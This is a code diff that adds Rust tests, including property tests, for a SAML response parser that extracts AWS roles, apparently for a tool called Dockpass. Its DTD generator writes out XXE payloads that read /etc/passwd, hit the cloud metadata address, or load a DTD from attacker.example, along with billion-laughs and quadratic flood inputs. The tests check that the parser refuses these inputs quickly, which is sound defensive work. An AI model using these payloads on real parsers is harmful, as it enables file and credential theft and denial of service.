@@ -1156,3 +1156,911 @@ fn minimal(subject: &str, statements: &str) -> String {
         "<samlp:Response xmlns:samlp=\"urn:oasis:names:tc:SAML:2.0:protocol\" xmlns:saml=\"urn:oasis:names:tc:SAML:2.0:assertion\"><saml:Assertion>{subject}{statements}</saml:Assertion></samlp:Response>"
     )
 }
+
+// ---- refusals: bounds, floods at the size cap ----
+
+#[test]
+fn attribute_and_namespace_bounds_are_exact() {
+    let pair = "arn:aws:iam::123456789012:role/R,arn:aws:iam::123456789012:saml-provider/P";
+    let doc = minimal("", &role_attr(&[pair]));
+    let on_assertion =
+        |extra: String| doc.replace("<saml:Assertion>", &format!("<saml:Assertion{extra}>"));
+
+    let attrs = |n: usize| (0..n).map(|i| format!(" a{i}=\"{i}\"")).collect::<String>();
+    let a = parse_response(on_assertion(attrs(parse::MAX_ATTRIBUTES)).as_bytes()).unwrap();
+    assert_eq!(a.roles[0].name, "R");
+    let e = error_of(on_assertion(attrs(parse::MAX_ATTRIBUTES + 1)));
+    assert_eq!(e.code, Code::SamlUnsafe, "{}", e.message);
+    assert!(
+        e.message.contains("more than 64 attributes"),
+        "{}",
+        e.message
+    );
+    // quoted `=`, `>` and `xmlns` are values, not attributes or declarations
+    let quoted = format!(
+        " q=\"{}\" r='>{}'",
+        "= xmlns:x".repeat(100),
+        "=".repeat(100)
+    );
+    assert!(parse_response(on_assertion(quoted).as_bytes()).is_ok());
+
+    // The Response declares samlp and saml; the Assertion adds the rest.
+    let decls = |n: usize| {
+        (0..n)
+            .map(|i| format!(" xmlns:n{i}=\"urn:n:{i}\""))
+            .collect::<String>()
+    };
+    let a = parse_response(on_assertion(decls(parse::MAX_NAMESPACES - 2)).as_bytes()).unwrap();
+    assert_eq!(a.roles[0].name, "R");
+    let e = error_of(on_assertion(decls(parse::MAX_NAMESPACES - 1)));
+    assert_eq!(e.code, Code::SamlUnsafe, "{}", e.message);
+    assert!(
+        e.message
+            .contains("more than 32 namespace declarations in scope"),
+        "{}",
+        e.message
+    );
+    // declarations in sibling elements are not in scope together
+    let siblings: String = (0..40)
+        .map(|i| format!("<saml:Attribute Name=\"x{i}\"{}/>", decls(20)))
+        .collect();
+    let a = parse_response(
+        doc.replace(
+            "<saml:AttributeStatement>",
+            &format!("<saml:AttributeStatement>{siblings}"),
+        )
+        .as_bytes(),
+    )
+    .unwrap();
+    assert_eq!(a.roles.len(), 1);
+    // the nesting bound is exact too (MAX_DEPTH - 1 is parsed: deep_nesting_is_refused_...)
+    assert_eq!(code_of(deep(parse::MAX_DEPTH)), Code::SamlUnsafe);
+}
+
+/// `head`, then `unit(0)`, `unit(1)`, ... while they fit, then `tail`: `len` bytes at most.
+fn flood(len: usize, head: &str, unit: impl Fn(usize) -> String, tail: &str) -> String {
+    let mut s = head.to_string();
+    for i in 0.. {
+        let u = unit(i);
+        if s.len() + u.len() + tail.len() > len {
+            break;
+        }
+        s.push_str(&u);
+    }
+    s.push_str(tail);
+    s
+}
+
+#[test]
+fn floods_up_to_the_size_cap_are_answered_quickly() {
+    const RESP: &str = "<samlp:Response xmlns:samlp=\"urn:oasis:names:tc:SAML:2.0:protocol\" xmlns:saml=\"urn:oasis:names:tc:SAML:2.0:assertion\"";
+    const END: &str = "</samlp:Response>";
+    let cap = MAX_INPUT_BYTES;
+    let quarter = MAX_INPUT_BYTES / 4;
+    let roles_head = minimal("", &role_attr(&["ROLES"]));
+    let (before_roles, after_roles) = roles_head.split_once("ROLES").unwrap();
+    let cases: Vec<(&str, String, Code)> = vec![
+        // roxmltree 0.20 checks duplicate attributes and resolves namespaces in quadratic
+        // time: these took minutes before the pre-parse scan bounded them.
+        (
+            "distinct attributes",
+            flood(cap, RESP, |i| format!(" a{i:x}=\"\""), "/>"),
+            Code::SamlUnsafe,
+        ),
+        (
+            "namespace declarations",
+            flood(cap, RESP, |i| format!(" xmlns:p{i:x}=\"u\""), "/>"),
+            Code::SamlUnsafe,
+        ),
+        (
+            "namespace fan-out",
+            flood(
+                cap,
+                &format!(
+                    "{RESP}{}>",
+                    (0..40)
+                        .map(|i| format!(" xmlns:p{i}=\"u{i}\""))
+                        .collect::<String>()
+                ),
+                |_| "<a xmlns:q=\"v\"/>".into(),
+                END,
+            ),
+            Code::SamlUnsafe,
+        ),
+        (
+            "DOCTYPE at the end",
+            flood(
+                cap,
+                &format!("{RESP}>"),
+                |_| "<a/>".into(),
+                "<!DOCTYPE x></samlp:Response>",
+            ),
+            Code::SamlUnsafe,
+        ),
+        (
+            "nodes",
+            flood(cap, &format!("{RESP}>"), |_| "<!---->".into(), END),
+            Code::SamlTooLarge,
+        ),
+        (
+            "one long attribute value",
+            flood(cap, &format!("{RESP} ID=\""), |_| "x".into(), "\"/>"),
+            Code::SamlInvalid,
+        ),
+        (
+            "character references",
+            flood(cap, before_roles, |_| "&amp;&#x41;".into(), after_roles),
+            Code::SamlNoRoles,
+        ),
+        (
+            "unclosed quote",
+            flood(cap, "<samlp:Response a='", |_| "<b>".into(), ""),
+            Code::SamlInvalid,
+        ),
+        ("open brackets", "<".repeat(cap), Code::SamlInvalid),
+        ("base64", "QUFB".repeat(cap / 4), Code::SamlInvalid),
+        (
+            "percent-encoded form",
+            flood(cap, "SAMLResponse=", |_| "%41".into(), ""),
+            Code::SamlInvalid,
+        ),
+        (
+            "form fields",
+            flood(cap, "<html>", |i| format!("<input name=f{i} value=x>"), ""),
+            Code::SamlInvalid,
+        ),
+        (
+            "escaped form value",
+            flood(
+                cap,
+                "<form><input name=SAMLResponse value=\"",
+                |_| "&#x2b;".into(),
+                "\">",
+            ),
+            Code::SamlInvalid,
+        ),
+        (
+            "comment openers",
+            flood(cap, "<html>", |_| "<!--".into(), ""),
+            Code::SamlInvalid,
+        ),
+    ];
+    // Within the bounds, at a quarter of the cap: linear, so well under a second even so.
+    let within: Vec<(&str, String, Code)> = vec![
+        (
+            "namespace fan-out within the bound",
+            flood(
+                quarter,
+                &format!(
+                    "{RESP}{}>",
+                    (0..29)
+                        .map(|i| format!(" xmlns:p{i}=\"u{i}\""))
+                        .collect::<String>()
+                ),
+                |_| "<a xmlns:q=\"v\"/>".into(),
+                END,
+            ),
+            Code::SamlInvalid,
+        ),
+        (
+            "attributes within the bound",
+            flood(
+                quarter,
+                &format!("{RESP}>"),
+                |_| {
+                    format!(
+                        "<a{}/>",
+                        (0..parse::MAX_ATTRIBUTES)
+                            .map(|i| format!(" a{i:x}=\"\""))
+                            .collect::<String>()
+                    )
+                },
+                END,
+            ),
+            Code::SamlInvalid,
+        ),
+    ];
+    for (name, input, code) in cases.into_iter().chain(within) {
+        assert!(input.len() <= cap, "{name}");
+        let started = Instant::now();
+        let e = error_of(&input);
+        let took = started.elapsed();
+        assert_eq!(e.code, code, "{name}: {}", e.message);
+        assert!(took.as_millis() < 1000, "{name}: {took:?}");
+    }
+    // A valid response with over 10k distinct roles (de-duplication used to be quadratic).
+    let pair = |i: usize| {
+        format!("arn:aws:iam::123456789012:role/R{i},arn:aws:iam::123456789012:saml-provider/P,")
+    };
+    let many = flood(cap, before_roles, pair, after_roles);
+    let started = Instant::now();
+    let a = parse_response(many.as_bytes()).unwrap();
+    let took = started.elapsed();
+    assert!(a.roles.len() > 10_000, "{}", a.roles.len());
+    assert!(took.as_millis() < 1000, "{took:?}");
+}
+
+// ---- property tests ----
+
+/// Property tests (proptest): any input ends in roles or a coded one-line error; valid
+/// responses keep their roles under harmless edits, random role values and every transport
+/// wrapping; the refusals (DTDs, size, nesting) come quickly with their documented codes.
+mod properties {
+    use super::*;
+    use proptest::prelude::*;
+    use proptest::sample::Index;
+    use proptest::test_runner::Config;
+    use std::time::Duration;
+
+    /// Modest case counts keep `cargo test` fast on 2 cores; failures are printed (with the
+    /// shrunk input), not written as regression files next to the sources.
+    fn config(cases: u32) -> Config {
+        Config {
+            cases,
+            failure_persistence: None,
+            ..Config::default()
+        }
+    }
+
+    /// The refusals take milliseconds; a second leaves room for a loaded debug build.
+    const QUICK: Duration = Duration::from_secs(1);
+
+    const SAML_CODES: [Code; 5] = [
+        Code::SamlInvalid,
+        Code::SamlEncrypted,
+        Code::SamlNoRoles,
+        Code::SamlTooLarge,
+        Code::SamlUnsafe,
+    ];
+
+    /// The roles, or the code of an error checked to be a SAML code with a one-line message.
+    fn outcome(input: &[u8]) -> std::result::Result<Vec<Role>, Code> {
+        match parse_response(input) {
+            Ok(a) => {
+                assert!(!a.roles.is_empty(), "parsed without roles");
+                let _ = a.inspect_json();
+                Ok(a.roles)
+            }
+            Err(e) => {
+                assert!(SAML_CODES.contains(&e.code), "{:?}: {}", e.code, e.message);
+                assert!(
+                    !e.message.is_empty() && !e.message.contains('\n') && e.message.len() < 600,
+                    "{:?}",
+                    e.message
+                );
+                Err(e.code)
+            }
+        }
+    }
+
+    /// The error `input` gives (checked as `error_of` does) and how long that took.
+    fn timed_error(input: &[u8]) -> (crate::Error, Duration) {
+        let started = Instant::now();
+        let r = parse_response(input);
+        let took = started.elapsed();
+        let e = r.expect_err("expected an error");
+        assert_one_line_no_secret(&e.message);
+        (e, took)
+    }
+
+    /// How a response reaches Dockpass: as it is, or in a shape IdPs, browsers and users make.
+    #[derive(Clone, Copy, Debug)]
+    enum Wrap {
+        Raw,
+        Base64,
+        Base64Lines,
+        UrlSafe,
+        FormBody,
+        Html,
+        HtmlEscaped,
+        Quoted,
+    }
+
+    fn any_wrap() -> impl Strategy<Value = Wrap> {
+        prop::sample::select(vec![
+            Wrap::Raw,
+            Wrap::Base64,
+            Wrap::Base64Lines,
+            Wrap::UrlSafe,
+            Wrap::FormBody,
+            Wrap::Html,
+            Wrap::HtmlEscaped,
+            Wrap::Quoted,
+        ])
+    }
+
+    fn wrap(w: Wrap, xml: &[u8]) -> Vec<u8> {
+        let std = base64::engine::general_purpose::STANDARD.encode(xml);
+        match w {
+            Wrap::Raw => xml.to_vec(),
+            Wrap::Base64 => std.into_bytes(),
+            Wrap::Base64Lines => std
+                .as_bytes()
+                .chunks(76)
+                .map(|c| std::str::from_utf8(c).unwrap())
+                .collect::<Vec<_>>()
+                .join("\r\n")
+                .into_bytes(),
+            Wrap::UrlSafe => base64::engine::general_purpose::URL_SAFE_NO_PAD
+                .encode(xml)
+                .into_bytes(),
+            Wrap::FormBody => format!(
+                "RelayState=https%3A%2F%2Fconsole.aws.amazon.com%2F&SAMLResponse={}&x=1",
+                std.replace('+', "%2B").replace('/', "%2F").replace('=', "%3D")
+            )
+            .into_bytes(),
+            Wrap::Html => format!(
+                "<!DOCTYPE html>\n<html><body onload=\"document.forms[0].submit()\"><form method=\"post\" action=\"{AWS_ACS}\"><input type=\"hidden\" name=\"RelayState\" value=\"\"/><input type=\"hidden\" name=\"SAMLResponse\" value=\"{std}\"/></form></body></html>"
+            )
+            .into_bytes(),
+            Wrap::HtmlEscaped => format!(
+                "<form><input name='SAMLResponse' value='{}'></form>",
+                std.replace('+', "&#x2b;").replace('=', "&#61;").replace('/', "&#x2F;")
+            )
+            .into_bytes(),
+            Wrap::Quoted => format!("\"{std}\"\n").into_bytes(),
+        }
+    }
+
+    /// Pieces of every syntax the decoder and parser meet.
+    const TOKENS: &[&str] = &[
+        "<",
+        ">",
+        "/>",
+        "</",
+        "<?xml version='1.0'?>",
+        "?>",
+        "<!--",
+        "-->",
+        "<![CDATA[",
+        "]]>",
+        "<!DOCTYPE x>",
+        "<!ENTITY",
+        "&amp;",
+        "&#x2b;",
+        "&#0;",
+        "&#x110000;",
+        "&bogus;",
+        "\"",
+        "'",
+        "=",
+        " ",
+        "\n",
+        ":",
+        ",",
+        "%2B",
+        "%",
+        "\u{feff}",
+        "\u{85}",
+        "é",
+        "\0",
+        "samlp:Response",
+        "saml:Assertion",
+        "saml:Attribute",
+        "saml:AttributeValue",
+        "saml:EncryptedAssertion",
+        "samlp:StatusCode",
+        " xmlns:samlp=\"urn:oasis:names:tc:SAML:2.0:protocol\"",
+        " xmlns:saml=\"urn:oasis:names:tc:SAML:2.0:assertion\"",
+        " xmlns=\"urn:oasis:names:tc:SAML:2.0:assertion\"",
+        " Name=\"https://aws.amazon.com/SAML/Attributes/Role\"",
+        " NotOnOrAfter=\"2099-01-01T00:00:00Z\"",
+        "arn:aws:iam::123456789012:role/R",
+        "arn:aws:iam::123456789012:saml-provider/P",
+        "SAMLResponse=",
+        "<input name=SAMLResponse value=",
+        "<form>",
+        "<html>",
+        "PHNhbWxwOlJlc3BvbnNl",
+        "AAAA",
+        "====",
+    ];
+
+    const XML_FIXTURES: [&str; 13] = [
+        ADFS,
+        OKTA,
+        ENTRA,
+        GOOGLE,
+        KEYCLOAK,
+        PING,
+        AWS_CN,
+        AWS_US_GOV,
+        EXPIRED,
+        ENCRYPTED,
+        NO_ROLES,
+        BAD_ROLES,
+        STATUS_RESPONDER,
+    ];
+
+    /// An edit that may break anything.
+    #[derive(Clone, Debug)]
+    enum Edit {
+        Insert(Index, &'static str),
+        Delete(Index, usize),
+        Copy(Index, Index, usize),
+        Byte(Index, u8),
+    }
+
+    fn any_edit() -> impl Strategy<Value = Edit> {
+        prop_oneof![
+            (any::<Index>(), prop::sample::select(TOKENS)).prop_map(|(i, t)| Edit::Insert(i, t)),
+            (any::<Index>(), 0..64usize).prop_map(|(i, n)| Edit::Delete(i, n)),
+            (any::<Index>(), any::<Index>(), 0..256usize).prop_map(|(a, b, n)| Edit::Copy(a, b, n)),
+            (any::<Index>(), any::<u8>()).prop_map(|(i, b)| Edit::Byte(i, b)),
+        ]
+    }
+
+    fn apply(doc: &mut Vec<u8>, e: &Edit) {
+        let len = doc.len();
+        match *e {
+            Edit::Insert(i, t) => {
+                let p = i.index(len + 1);
+                doc.splice(p..p, t.bytes());
+            }
+            Edit::Delete(i, n) => {
+                let p = i.index(len + 1);
+                doc.drain(p..(p + n).min(len));
+            }
+            Edit::Copy(from, to, n) if len > 0 => {
+                let p = from.index(len);
+                let chunk = doc[p..(p + n).min(len)].to_vec();
+                let at = to.index(len + 1);
+                doc.splice(at..at, chunk);
+            }
+            Edit::Byte(i, b) if len > 0 => {
+                let p = i.index(len);
+                doc[p] = b;
+            }
+            _ => {}
+        }
+    }
+
+    /// Text of any XML character, sometimes plain ASCII.
+    fn xml_text() -> impl Strategy<Value = String> {
+        prop_oneof![
+            "[ -~]{0,24}",
+            prop::collection::vec(any::<char>(), 0..24).prop_map(|cs| {
+                cs.into_iter()
+                    .filter(|&c| {
+                        matches!(c, '\t' | '\n' | '\r')
+                            || (c >= ' ' && c != '\u{fffe}' && c != '\u{ffff}')
+                    })
+                    .collect()
+            }),
+        ]
+    }
+
+    fn escape(s: &str) -> String {
+        s.replace('&', "&amp;")
+            .replace('<', "&lt;")
+            .replace('>', "&gt;")
+            .replace('"', "&quot;")
+            .replace('\'', "&apos;")
+    }
+
+    /// Where harmless edits go in a (well-formed, simple) fixture: its tags from the root's
+    /// start tag on, as the offsets of their `<` and `>`, and the values of the attributes
+    /// Dockpass does not read, as the offsets inside their quotes.
+    struct Layout {
+        tags: Vec<(usize, usize)>,
+        free_values: Vec<(usize, usize)>,
+    }
+
+    fn layout(xml: &str) -> Layout {
+        let (mut tags, mut free_values) = (Vec::new(), Vec::new());
+        let mut i = 0;
+        while let Some(o) = xml[i..].find('<') {
+            let s = i + o;
+            let rest = &xml[s..];
+            let skip = [("<![CDATA[", "]]>"), ("<!--", "-->"), ("<?", "?>")]
+                .iter()
+                .find(|(open, _)| rest.starts_with(open))
+                .map(|(_, close)| rest.find(close).unwrap() + close.len());
+            if let Some(n) = skip {
+                i = s + n;
+                continue;
+            }
+            let e = s + rest.find('>').unwrap();
+            tags.push((s, e));
+            if !rest.starts_with("</") {
+                let tag = &xml[s..e];
+                let mut k = tag
+                    .find(|c: char| c.is_ascii_whitespace() || c == '/')
+                    .unwrap_or(tag.len());
+                while let Some(eq) = tag[k..].find('=') {
+                    let name = tag[k..k + eq].trim();
+                    let q_at = k + eq + 1 + tag[k + eq + 1..].find(['"', '\'']).unwrap();
+                    let q = tag.as_bytes()[q_at] as char;
+                    let v = q_at + 1;
+                    let v_end = v + tag[v..].find(q).unwrap();
+                    let read = matches!(name, "Name" | "NotOnOrAfter" | "Value" | "Method");
+                    if !read && !name.starts_with("xmlns") {
+                        free_values.push((s + v, s + v_end));
+                    }
+                    k = v_end + 1;
+                }
+            }
+            i = e + 1;
+        }
+        Layout { tags, free_values }
+    }
+
+    /// An edit that keeps a response's meaning: a new value for an attribute Dockpass does
+    /// not read, a comment or a foreign empty element after a tag, whitespace inside a tag.
+    #[derive(Clone, Debug)]
+    enum Harmless {
+        Value(Index, String),
+        Comment(Index, String),
+        Element(Index, String),
+        Space(Index, &'static str),
+    }
+
+    fn any_harmless() -> impl Strategy<Value = Harmless> {
+        prop_oneof![
+            (any::<Index>(), xml_text()).prop_map(|(i, s)| Harmless::Value(i, s)),
+            (any::<Index>(), xml_text()).prop_map(|(i, s)| Harmless::Comment(i, s)),
+            (any::<Index>(), xml_text()).prop_map(|(i, s)| Harmless::Element(i, s)),
+            (
+                any::<Index>(),
+                prop::sample::select(vec![" ", "\n", "\t", "\r\n", "  \n\t"])
+            )
+                .prop_map(|(i, s)| Harmless::Space(i, s)),
+        ]
+    }
+
+    fn apply_harmless(xml: &str, edits: &[Harmless]) -> String {
+        let l = layout(xml);
+        let b = xml.as_bytes();
+        // (offset, bytes replaced, new text); offsets never fall inside another edit's range
+        let mut changes: Vec<(usize, usize, String)> = Vec::new();
+        for e in edits {
+            match e {
+                Harmless::Value(i, s) if !l.free_values.is_empty() => {
+                    let (a, z) = l.free_values[i.index(l.free_values.len())];
+                    if !changes.iter().any(|c| c.0 == a) {
+                        changes.push((a, z - a, escape(s)));
+                    }
+                }
+                // after any tag but the root's end tag
+                Harmless::Comment(i, s) => {
+                    let (_, e) = l.tags[i.index(l.tags.len() - 1)];
+                    changes.push((e + 1, 0, format!("<!--{}-->", s.replace('-', "_"))));
+                }
+                Harmless::Element(i, s) => {
+                    let (_, e) = l.tags[i.index(l.tags.len() - 1)];
+                    let el = format!(
+                        "<probe:x xmlns:probe=\"urn:example:probe\" note=\"{}\"/>",
+                        escape(s)
+                    );
+                    changes.push((e + 1, 0, el));
+                }
+                Harmless::Space(i, s) => {
+                    let (_, e) = l.tags[i.index(l.tags.len())];
+                    let at = if b[e - 1] == b'/' { e - 1 } else { e };
+                    changes.push((at, 0, s.to_string()));
+                }
+                _ => {}
+            }
+        }
+        changes.sort_by_key(|c| std::cmp::Reverse(c.0));
+        let mut out = xml.to_string();
+        for (at, n, text) in changes {
+            out.replace_range(at..at + n, &text);
+        }
+        out
+    }
+
+    /// A valid role,provider pair in one partition, in either order, with whitespace.
+    fn valid_pair() -> impl Strategy<Value = (String, Role)> {
+        (
+            prop::sample::select(vec!["aws", "aws-cn", "aws-us-gov", "aws-iso-b", "aws-eusc"]),
+            "[0-9]{12}",
+            "[0-9]{12}",
+            prop::collection::vec("[A-Za-z0-9_.-]{1,12}", 0..3),
+            "[A-Za-z0-9+=.@_-]([A-Za-z0-9+=,.@_-]{0,62}[A-Za-z0-9+=.@_-])?",
+            "[A-Za-z0-9._-]{1,32}",
+            any::<bool>(),
+            prop::sample::select(vec!["", " ", "\n  ", "\t"]),
+        )
+            .prop_map(
+                |(
+                    partition,
+                    account,
+                    provider_account,
+                    segments,
+                    name,
+                    provider,
+                    provider_first,
+                    ws,
+                )| {
+                    let path = if segments.is_empty() {
+                        "/".to_string()
+                    } else {
+                        format!("/{}/", segments.join("/"))
+                    };
+                    let role_arn = format!("arn:{partition}:iam::{account}:role{path}{name}");
+                    let principal_arn =
+                        format!("arn:{partition}:iam::{provider_account}:saml-provider/{provider}");
+                    let value = if provider_first {
+                        format!("{ws}{principal_arn},{ws}{role_arn}{ws}")
+                    } else {
+                        format!("{ws}{role_arn}{ws},{principal_arn}{ws}")
+                    };
+                    let role = Role {
+                        role_arn,
+                        principal_arn,
+                        account,
+                        name,
+                        path,
+                        partition: partition.to_string(),
+                    };
+                    (value, role)
+                },
+            )
+    }
+
+    /// Values that are no valid role,provider pair (the parser skips them).
+    const DECOYS: &[&str] = &[
+        "",
+        "garbage",
+        "arn:aws:iam::123456789012:role/OnlyARole",
+        "arn:aws:iam::12345:role/R,arn:aws:iam::12345:saml-provider/P",
+        "arn:aws:iam::123456789012:role/R,arn:aws-cn:iam::123456789012:saml-provider/P",
+        "arn:aws:iam::123456789012:role/bad name,arn:aws:iam::123456789012:saml-provider/P",
+        "arn:aws:iam::123456789012:user/U,arn:aws:iam::123456789012:saml-provider/P",
+        "arn:aws:s3:::bucket,arn:aws:iam::123456789012:saml-provider/P",
+        "arn:aws:iam::123456789012:role/R,arn:aws:iam::123456789012:saml-provider/",
+        "arn:aws:iam::123456789012:role/R,arn:aws:iam::123456789012:saml-provider/P,extra",
+    ];
+
+    /// Each value is a valid pair or a decoy.
+    fn role_value() -> impl Strategy<Value = (String, Option<Role>)> {
+        prop_oneof![
+            3 => valid_pair().prop_map(|(v, r)| (v, Some(r))),
+            1 => prop::sample::select(DECOYS).prop_map(|d| (d.to_string(), None)),
+        ]
+    }
+
+    /// `xml` with its (only) Role attribute holding `values`, in the fixture's own prefix.
+    fn with_role_values(xml: &str, values: &[String], cdata: bool) -> String {
+        let name_at = xml
+            .find("Name=\"https://aws.amazon.com/SAML/Attributes/Role\"")
+            .unwrap();
+        let open = xml[..name_at].rfind('<').unwrap();
+        let tag_name = xml[open + 1..name_at].split_whitespace().next().unwrap();
+        let prefix = tag_name.strip_suffix("Attribute").unwrap();
+        let content = name_at + xml[name_at..].find('>').unwrap() + 1;
+        let close = content
+            + xml[content..]
+                .find(&format!("</{prefix}Attribute>"))
+                .unwrap();
+        let vals: String = values
+            .iter()
+            .map(|v| {
+                let v = if cdata {
+                    format!("<![CDATA[{v}]]>")
+                } else {
+                    escape(v)
+                };
+                format!("<{prefix}AttributeValue>{v}</{prefix}AttributeValue>")
+            })
+            .collect();
+        format!("{}{vals}{}", &xml[..content], &xml[close..])
+    }
+
+    /// Deep nesting in several styles: `depth` elements below the Response.
+    fn nested(depth: usize, style: usize) -> String {
+        let (open, close) = match style {
+            0 => ("<a>".to_string(), "</a>"),
+            1 => ("<x:e>".to_string(), "</x:e>"),
+            2 => (
+                "<a b=\"1\" c='&gt;'><!-- c --><?p i?><e/>".to_string(),
+                "</a>",
+            ),
+            _ => (
+                "<saml:AttributeValue>\n".to_string(),
+                "</saml:AttributeValue>",
+            ),
+        };
+        format!(
+            "<samlp:Response xmlns:samlp=\"urn:oasis:names:tc:SAML:2.0:protocol\" xmlns:saml=\"urn:oasis:names:tc:SAML:2.0:assertion\" xmlns:x=\"urn:x\">{}<![CDATA[<a><a>]]>{}</samlp:Response>",
+            open.repeat(depth),
+            close.repeat(depth)
+        )
+    }
+
+    /// A DTD construct: DOCTYPE with an internal subset, or a declaration on its own.
+    fn dtd() -> impl Strategy<Value = String> {
+        let subsets = vec![
+            "".to_string(),
+            "<!ENTITY xxe SYSTEM \"file:///etc/passwd\">".to_string(),
+            "<!ENTITY xxe PUBLIC \"-//X//EN\" \"http://169.254.169.254/latest/meta-data/\">"
+                .to_string(),
+            "<!ENTITY % remote SYSTEM \"http://attacker.example/evil.dtd\"> %remote;".to_string(),
+            format!("<!ENTITY a \"{}\">", "a".repeat(10_000)),
+            (1..10)
+                .map(|i| {
+                    format!(
+                        "<!ENTITY lol{i} \"{}\">",
+                        format!("&lol{};", i - 1).repeat(10)
+                    )
+                })
+                .collect::<String>()
+                .replace("&lol0;", "lol"),
+            "<!ELEMENT x ANY><!ATTLIST x y CDATA #IMPLIED>".to_string(),
+        ];
+        (
+            prop::sample::select(vec![
+                "DOCTYPE", "doctype", "DocType", "ENTITY", "entity", "Entity",
+            ]),
+            "[a-gi-z][a-z0-9:]{0,7}",
+            prop::sample::select(subsets),
+            prop::sample::select(vec![" ", "\n", "\t  "]),
+        )
+            .prop_map(|(keyword, name, subset, ws)| {
+                if keyword.eq_ignore_ascii_case("doctype") {
+                    format!("<!{keyword}{ws}{name}{ws}[{ws}{subset}{ws}]>")
+                } else {
+                    format!("<!{keyword}{ws}{name}{ws}SYSTEM \"file:///etc/passwd\">")
+                }
+            })
+    }
+
+    proptest! {
+        #![proptest_config(config(512))]
+
+        #[test]
+        fn any_bytes_end_in_roles_or_a_coded_one_line_error(
+            input in prop::collection::vec(any::<u8>(), 0..2048),
+        ) {
+            let _ = outcome(&input);
+        }
+
+        #[test]
+        fn any_token_soup_in_any_wrapping_too(
+            in_response in any::<bool>(),
+            parts in prop::collection::vec(prop::sample::select(TOKENS), 0..80),
+            w in any_wrap(),
+        ) {
+            let head = if in_response { minimal("", "").replace("</saml:Assertion></samlp:Response>", "") } else { String::new() };
+            let _ = outcome(&wrap(w, format!("{head}{}", parts.concat()).as_bytes()));
+        }
+
+        #[test]
+        fn edited_fixtures_in_any_wrapping_too(
+            doc in prop::sample::select(XML_FIXTURES.to_vec()),
+            edits in prop::collection::vec(any_edit(), 1..6),
+            w in any_wrap(),
+        ) {
+            let mut b = doc.as_bytes().to_vec();
+            for e in &edits {
+                apply(&mut b, e);
+            }
+            let _ = outcome(&wrap(w, &b));
+        }
+    }
+
+    proptest! {
+        #![proptest_config(config(256))]
+
+        #[test]
+        fn harmless_edits_and_any_wrapping_keep_the_roles(
+            i in 0..9usize,
+            edits in prop::collection::vec(any_harmless(), 0..8),
+            w in any_wrap(),
+        ) {
+            let all = fixtures();
+            let (name, xml, _) = &all[i];
+            let want = parse_response(xml.as_bytes()).unwrap().roles;
+            let edited = apply_harmless(xml, &edits);
+            match outcome(&wrap(w, edited.as_bytes())) {
+                Ok(roles) => prop_assert_eq!(roles, want, "{}", name),
+                Err(code) => prop_assert!(false, "{name}: {code:?} for {edited}"),
+            }
+        }
+
+        #[test]
+        fn random_role_values_give_exactly_the_valid_pairs(
+            i in 0..8usize,
+            values in prop::collection::vec(role_value(), 0..6),
+            joined in any::<bool>(),
+            cdata in any::<bool>(),
+            w in any_wrap(),
+        ) {
+            let doc = [ADFS, OKTA, ENTRA, GOOGLE, PING, AWS_CN, AWS_US_GOV, EXPIRED][i];
+            let mut want: Vec<Role> = Vec::new();
+            for r in values.iter().filter_map(|(_, r)| r.clone()) {
+                if !want.iter().any(|o| o.role_arn == r.role_arn && o.principal_arn == r.principal_arn) {
+                    want.push(r);
+                }
+            }
+            // `role1,provider1,role2,provider2` in one value, as some IdPs send: only
+            // for valid pairs whose names hold no comma
+            let strs: Vec<String> = if joined && values.len() > 1 && values.iter().all(|(v, r)| r.as_ref().is_some_and(|r| !r.name.contains(',')) && !v.is_empty()) {
+                vec![values.iter().map(|(v, _)| v.trim()).collect::<Vec<_>>().join(",")]
+            } else {
+                values.iter().map(|(v, _)| v.clone()).collect()
+            };
+            let xml = with_role_values(doc, &strs, cdata);
+            match outcome(&wrap(w, xml.as_bytes())) {
+                Ok(roles) => prop_assert_eq!(roles, want),
+                Err(code) => {
+                    prop_assert!(want.is_empty(), "{:?} with valid pairs in {}", code, xml);
+                    prop_assert_eq!(code, Code::SamlNoRoles);
+                }
+            }
+        }
+
+        #[test]
+        fn dtds_anywhere_are_refused_quickly(
+            i in 0..13usize,
+            decl in dtd(),
+            at in any::<Index>(),
+            reference in any::<Option<Index>>(),
+            w in any_wrap(),
+        ) {
+            let mut xml = XML_FIXTURES[i].to_string();
+            if let Some(r) = reference {
+                // not before the first `<`: the input must still look like markup
+                let bounds: Vec<usize> = xml.char_indices().skip(1).map(|(p, _)| p).collect();
+                xml.insert_str(bounds[r.index(bounds.len())], "&xxe;&lol9;");
+            }
+            let bounds: Vec<usize> = xml.char_indices().map(|(p, _)| p).chain([xml.len()]).collect();
+            xml.insert_str(bounds[at.index(bounds.len())], &decl);
+            let (e, took) = timed_error(&wrap(w, xml.as_bytes()));
+            prop_assert_eq!(e.code, Code::SamlUnsafe, "{}", e.message);
+            prop_assert!(e.message.contains("DTD"), "{}", e.message);
+            prop_assert!(took < QUICK, "{:?}", took);
+        }
+
+        #[test]
+        fn nesting_within_the_bound_is_parsed(
+            depth in 0..parse::MAX_DEPTH,
+            style in 0..4usize,
+            w in any_wrap(),
+        ) {
+            // no Assertion, so SamlInvalid, but parsed rather than refused
+            let code = outcome(&wrap(w, nested(depth, style).as_bytes())).unwrap_err();
+            prop_assert_eq!(code, Code::SamlInvalid);
+        }
+    }
+
+    proptest! {
+        #![proptest_config(config(64))]
+
+        #[test]
+        fn deep_nesting_is_refused_quickly(
+            // (the longest style stays under the size cap in base64 up to ~8k levels)
+            extra in prop_oneof![1..64usize, 64..4_000usize],
+            style in 0..4usize,
+            w in any_wrap(),
+        ) {
+            // the Response plus MAX_DEPTH elements is one level too deep
+            let input = wrap(w, nested(parse::MAX_DEPTH - 1 + extra, style).as_bytes());
+            let (e, took) = timed_error(&input);
+            prop_assert_eq!(e.code, Code::SamlUnsafe, "{}", e.message);
+            prop_assert!(e.message.contains("deep"), "{}", e.message);
+            prop_assert!(took < QUICK, "{:?}", took);
+        }
+    }
+
+    proptest! {
+        #![proptest_config(config(32))]
+
+        #[test]
+        fn inputs_over_the_size_cap_are_refused_before_decoding(
+            extra in 1..65_536usize,
+            fill in prop::sample::select(vec![
+                &b"A"[..], &b"<"[..], &b" "[..], &b"\xff"[..], &b"%2B"[..], &b"<a>"[..], OKTA.as_bytes(),
+            ]),
+        ) {
+            let n = MAX_INPUT_BYTES + extra;
+            let mut input = fill.repeat(n / fill.len() + 1);
+            input.truncate(n);
+            let (e, took) = timed_error(&input);
+            prop_assert_eq!(e.code, Code::SamlTooLarge, "{}", e.message);
+            prop_assert!(e.message.contains("1024 KiB"), "{}", e.message);
+            prop_assert!(took < QUICK, "{:?}", took);
+        }
+    }
+}
